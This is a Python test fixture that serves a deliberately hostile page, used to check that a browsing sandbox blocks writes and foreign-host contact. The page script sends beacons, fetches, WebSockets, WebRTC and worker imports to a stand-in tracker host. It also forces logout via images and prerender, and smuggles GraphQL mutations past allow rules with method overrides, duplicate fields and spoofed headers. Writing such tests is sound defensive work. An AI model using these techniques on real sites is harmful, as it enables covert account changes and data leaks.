"""A hostile site: every way known to us in which a page can write, or ask a foreign host."""

from __future__ import annotations

from tests.support.loopback_tls import Hit, Reply

from paravent.core.page import DenyRule, ReadRule, SiteRules

HOST = "www.social.test"
START = f"https://{HOST}/"
FOREIGN = "tracker.foreign.test"

RULES = SiteRules(
    platform="social",
    hosts=(HOST, "*.static.test"),
    start_url=START,
    sign_in_url=START + "login",
    operations=(
        ReadRule(
            host=HOST,
            path="/graphql",
            operation="form:name",
            allow=("*Query",),
            deny=("*Mutation*",),
        ),
        ReadRule(host=HOST, path="/batch", operation="json:operationName", allow=("*Query",)),
    ),
    denied=(DenyRule("/logout"), DenyRule("/settings/*", ("action=off",))),
)

_HEAD = f"""<!doctype html><html lang="en-GB"><head><title>Settings</title>
<link rel="dns-prefetch" href="https://dns.{FOREIGN}/"><link rel="preconnect" href="https://{FOREIGN}">
<link rel="prefetch" href="https://{FOREIGN}/prefetch"><link rel="prefetch" href="/logout?prefetch">
<link rel="prerender" href="/logout?prerender"><link rel="icon" href="https://{FOREIGN}/icon">
<link rel="stylesheet" href="https://{FOREIGN}/style.css">
<link rel="modulepreload" href="https://{FOREIGN}/module.js">
<link rel="manifest" href="https://{FOREIGN}/manifest">
<script type="speculationrules">{{"prefetch":[{{"urls":["/logout?spec","https://{FOREIGN}/spec"],
"eagerness":"immediate"}}],"prerender":[{{"urls":["/logout?specrender"],"eagerness":"immediate"}}]}}
</script></head>"""

_BODY = """<body><main><h1>Privacy</h1>
<div><span>Who can see your friends list?</span>
<div role="button" tabindex="0" aria-label="Edit privacy. Friends"><span>Friends</span></div></div>
<label>Let search engines link to your profile
<input type="checkbox" role="switch" id="sw" checked></label>
<div id="hover" style="height:60px;width:100%">Hover me</div>
<button type="button" id="more" aria-expanded="false">More options</button>
<form action="/w/decoy" method="post"><button>See all settings</button></form>
<button type="button" id="save">Save</button>
<a href="/logout">Sign me out</a> <a href="/settings/x?action=off">Turn it off</a>
<a href="mailto:a@b.test" id="mail">Mail</a>
<a id="ping" href="#here" ping="/w/ping https://FOREIGN/ping">Pinged</a>
<a id="dl" href="/file" download>File</a>
<img src="/logout?img"><img src="/settings/x?action=off&amp;img"><img src="https://FOREIGN/pixel">
<iframe name="inner" src="/frame" title="inner"></iframe><iframe src="https://FOREIGN/frame"></iframe>
<div style="height:3000px"></div></main>
<script>
const post = (p, o) => fetch('/w/' + p, {method: 'POST', body: 'x', ...o}).catch(() => {});
const attempt = f => { try { const r = f(); if (r && r.catch) r.catch(() => {}); } catch (e) {} };
post('load'); setTimeout(() => post('timer'), 50); setInterval(() => post('interval'), 400);
attempt(() => navigator.sendBeacon('/w/beacon', 'x'));
for (const m of ['PUT', 'PATCH', 'DELETE', 'QUERY', 'OPTIONS'])
  attempt(() => fetch('/w/m' + m, {method: m}));
attempt(() => { const x = new XMLHttpRequest(); x.open('POST', '/w/xhr'); x.send('x'); });
attempt(() => fetch('/w/override', {headers: {'X-HTTP-Method-Override': 'DELETE'}}));
attempt(() => fetch('/w/override?_method=delete'));
attempt(() => fetch('/graphql?query=' + encodeURIComponent('mutation { off }')));
const form = (o) => new URLSearchParams(o);
const gql = (o, h) => attempt(() =>
  fetch('/graphql', {method: 'POST', body: form(o), headers: h || {}}));
gql({name: 'SaveMutation'}); gql({name: 'SaveMutationQuery'}); gql({nothing: 'FriendsQuery'});
gql([['name', 'FriendsQuery'], ['name', 'SaveMutation']]);
gql({name: 'FriendsQuery', queries: '{"a":{"name":"FriendsQuery"},"b":{"name":"SaveMutation"}}'});
gql({name: 'FriendsQuery', queries: '{"a":{"doc_id":"1"}}'});
gql({name: 'FriendsQuery', query: 'mutation Off { off }'});
gql({name: 'FriendsQuery', variables: '{"input":{"client_mutation_id":"1"}}'});
gql({name: 'FriendsQuery', _method: 'DELETE'});
gql({name: 'FriendsQuery'}, {'X-FB-Friendly-Name': 'SaveMutation'});
gql({name: 'SaveMutation', doc_id: '77'});
setTimeout(() => gql({name: 'FriendsQuery', doc_id: '77'}), 300);
attempt(() => fetch('/graphql', {method: 'POST', body: new Blob(['name=FriendsQuery'])}));
attempt(() => { const d = new FormData(); d.append('name', 'FriendsQuery');
  d.append('f', new File(['x'], 'f.txt')); return fetch('/graphql', {method: 'POST', body: d}); });
attempt(() => fetch('/batch', {method: 'POST', headers: {'content-type': 'application/json'},
  body: JSON.stringify([{operationName: 'AQuery'}, {operationName: 'OffMutation'}])}));
attempt(() => fetch('/batch', {method: 'POST', headers: {'content-type': 'application/json'},
  body: '{"operationName":"AQuery","operationName":"Off"}'}));
for (const [ev, target] of [['mouseover', hover], ['mouseenter', hover], ['focus', window],
  ['focusin', document], ['scroll', window], ['pointermove', window],
  ['visibilitychange', document],
  ['blur', window], ['resize', window], ['freeze', document], ['mouseover', sw], ['focus', sw]])
  target.addEventListener(ev, () => { post('on-' + ev); navigator.sendBeacon('/w/bon-' + ev); });
addEventListener('pagehide', () => {
  navigator.sendBeacon('/w/leave-beacon', 'x'); post('leave-keep', {keepalive: true});
  post('leave-plain'); const x = new XMLHttpRequest(); attempt(() => {
  x.open('POST', '/w/leave-sync', false); x.send('x'); }); attempt(() =>
  fetchLater('/w/leave-later', {method: 'POST', body: 'x'})); });
addEventListener('beforeunload', e => { post('beforeunload');
  e.preventDefault(); return 'Stay?'; });
addEventListener('unload', () => navigator.sendBeacon('/w/unload', 'x'));
attempt(() => fetchLater('/w/later', {method: 'POST', body: 'x', activateAfter: 100}));
const code = n => `const t=${JSON.stringify(location.origin)};
  fetch(t+'/w/${n}',{method:'POST',body:'x'}).catch(()=>{});
  try{new WebSocket(t.replace('http','ws')+'/ws-${n}')}catch(e){}
  try{new WebSocket('wss://FOREIGN/ws-${n}')}catch(e){}`;
const blob = n => URL.createObjectURL(new Blob([code(n)], {type: 'text/javascript'}));
attempt(() => new Worker(blob('blob-worker')));
attempt(() => new SharedWorker(blob('blob-shared')));
attempt(() => new Worker('/worker.js')); attempt(() => new SharedWorker('/shared.js'));
attempt(() => navigator.serviceWorker.register('/service.js'));
attempt(() => new WebSocket('wss://' + location.host + '/ws-page'));
attempt(() => new WebSocket('wss://FOREIGN/ws-page'));
attempt(() => new WebSocketStream('wss://' + location.host + '/ws-stream'));
attempt(() => { const t = new WebTransport('https://' + location.host + '/wt'); return t.ready; });
attempt(() => { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:FOREIGN:3478'},
  {urls: 'turn:FOREIGN:443?transport=tcp', username: 'a', credential: 'b'}]});
  p.createDataChannel('x'); return p.createOffer().then(o => p.setLocalDescription(o)); });
attempt(() => new EventSource('https://FOREIGN/events'));
attempt(() => fetch('https://FOREIGN/fetch', {method: 'POST', mode: 'no-cors', body: 'x'}));
attempt(() => fetch('https://FOREIGN/get', {mode: 'no-cors'}));
attempt(() => fetch('http://127.0.0.1:9/', {mode: 'no-cors'}));
attempt(() => import('https://FOREIGN/import.js'));
attempt(() => document.fonts.add(new FontFace('f', 'url(https://FOREIGN/font)').load()));
attempt(() => fetch('/redirect-foreign')); attempt(() => fetch('/redirect-307', {method: 'GET'}));
const submit = (target, action) => { const f = document.createElement('form'); f.method = 'post';
  f.action = action; f.target = target; document.body.append(f); f.submit(); };
attempt(() => submit('inner', '/w/form-frame')); attempt(() => submit('_blank', '/w/form-blank'));
attempt(() => submit('_blank', 'https://FOREIGN/form'));
attempt(() => window.open('/w-get/popup')); attempt(() => window.open('https://FOREIGN/popup'));
attempt(() => document.getElementById('ping').click());
attempt(() => document.getElementById('dl').click());
attempt(() => document.getElementById('mail').click());
attempt(() => navigator.geolocation.getCurrentPosition(() => post('geo')));
attempt(() => Notification.requestPermission().then(r => { if (r === 'granted') post('notify'); }));
attempt(() => navigator.clipboard.readText().then(() => post('clipboard')));
attempt(() => { if (alert('hello') || confirm('Delete?') || prompt('x')) post('dialog'); });
attempt(() => navigator.credentials.get({identity: {providers: [{configURL:
  'https://FOREIGN/fedcm.json', clientId: '1'}]}}));
attempt(() => window.showOpenFilePicker());
more.addEventListener('click', () => { more.setAttribute('aria-expanded', 'true');
  const p = document.createElement('p'); p.textContent = 'Opened'; more.after(p); });
save.addEventListener('click', () => post('save'));
gql({name: 'FriendsQuery'});
</script></body></html>""".replace("FOREIGN", FOREIGN)

_WORKER = """const n = 'NAME';
fetch('/w/' + n, {method: 'POST', body: 'x'}).catch(() => {});
try { new WebSocket('wss://' + location.host + '/ws-' + n); } catch (e) {}
try { new WebSocket('wss://FOREIGN/ws-' + n); } catch (e) {}
fetch('https://FOREIGN/' + n, {mode: 'no-cors'}).catch(() => {});
try { importScripts('https://FOREIGN/import-' + n); } catch (e) {}
self.addEventListener('fetch', () => {});""".replace("FOREIGN", FOREIGN)

_FRAME = """<!doctype html><title>f</title>
<label><input type=checkbox checked>Inside a frame</label>
<script>fetch('/w/frame', {method: 'POST'}).catch(() => {});
try { new WebSocket('wss://' + location.host + '/ws-frame'); } catch (e) {}
try { navigator.sendBeacon('/w/frame-beacon'); } catch (e) {}
addEventListener('pagehide', () => navigator.sendBeacon('/w/frame-leave'));</script>"""

_REPORTS = (
    ("Reporting-Endpoints", 'default="/w/report", csp="/w/report-csp"'),
    ("Report-To", '{"group":"nel","max_age":60,"endpoints":[{"url":"/w/report-to"}]}'),
    ("NEL", '{"report_to":"nel","max_age":60,"success_fraction":1.0,"failure_fraction":1.0}'),
    ("Content-Security-Policy-Report-Only", "img-src 'none'; report-uri /w/csp; report-to csp"),
    ("Secure-Session-Registration", '(ES256 RS256);path="/w/bound";challenge="c"'),
    ("Set-Cookie", "seen=1; Secure; HttpOnly; Path=/"),
)


def answer(hit: Hit) -> Reply:
    """The hostile site's answers."""
    path = hit.path.partition("?")[0]
    if path.endswith(".js"):
        name = path.strip("/").removesuffix(".js")
        return Reply(_WORKER.replace("NAME", name), "text/javascript")
    if path == "/frame":
        return Reply(_FRAME)
    if path == "/other":
        return Reply("<!doctype html><html lang=en><title>Other</title><h1>Another page</h1>")
    if path == "/redirect-foreign":
        return Reply(status=302, headers=(("Location", f"https://{FOREIGN}/redirected"),))
    if path == "/redirect-307":
        return Reply(status=307, headers=(("Location", "/logout?redirected"),))
    if path == "/refresh":
        return Reply(
            f'<!doctype html><meta http-equiv=refresh content="0;url=https://{FOREIGN}/refresh">'
            "<h1>Going</h1>"
        )
    if path in ("/graphql", "/batch"):
        return Reply('{"data":{"viewer":{"friends":["a"]}}}', "application/json")
    if path == "/file":
        return Reply(b"x", headers=(("Content-Disposition", "attachment; filename=x.exe"),))
    if path != "/":
        return Reply("ok", "text/plain")
    return Reply(_HEAD + _BODY, headers=_REPORTS)


def damage(hit: Hit) -> bool:
    """Whether ``hit`` would have changed something on the site."""
    path = hit.path
    if hit.host != HOST:
        return False
    if path.startswith(("/logout", "/settings/x?action=off", "/w/")):
        return True
    if path.startswith("/graphql?query=mutation"):
        return True
    if path == "/graphql":
        return hit.body != b"name=FriendsQuery" or "x-fb-friendly-name" in hit.headers
    return hit.method not in ("GET", "HEAD")
